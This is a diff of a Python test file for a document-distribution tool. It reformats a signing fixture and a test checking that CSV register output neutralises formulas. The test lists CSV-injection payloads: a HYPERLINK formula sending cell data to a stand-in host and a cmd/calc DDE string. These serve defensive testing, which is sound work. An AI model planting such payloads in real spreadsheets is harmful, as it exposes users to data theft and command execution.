@@ -28,8 +28,11 @@ def signed(tmp_path, distribution):
     text = EXAMPLE.read_text(encoding="utf-8")
     assert DISTRIBUTION in text
     plan.write_text(text.replace(DISTRIBUTION, distribution), encoding="utf-8")
-    for step, name, role in (("prepared", "李明", "office-head"), ("reviewed", "张华", "compliance-head"),
-                             ("approved", "王强", "president")):
+    for step, name, role in (
+        ("prepared", "李明", "office-head"),
+        ("reviewed", "张华", "compliance-head"),
+        ("approved", "王强", "president"),
+    ):
         result = run("sign", plan, "--step", step, "--name", name, "--role", role, "--date", "2024-09-15")
         assert result.exit_code == 0, result.output
     return plan
@@ -55,8 +58,7 @@ def test_max_copies_lowers_and_raises_the_cap(tmp_path):
 
 def test_register_csv_neutralises_formulas(tmp_path):
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
-    distribution = "distribution:\n" + "".join(f"  - to: '{h.replace(chr(39), chr(39) * 2)}'\n    copies: 1\n"
-                                               for h in hostile)
+    distribution = "distribution:\n" + "".join(f"  - to: '{h.replace(chr(39), chr(39) * 2)}'\n    copies: 1\n" for h in hostile)
     plan = signed(tmp_path, distribution)
     result = run("render", plan, "--final", "--copies", "-o", tmp_path / "out")
     assert result.exit_code == 0, result.output
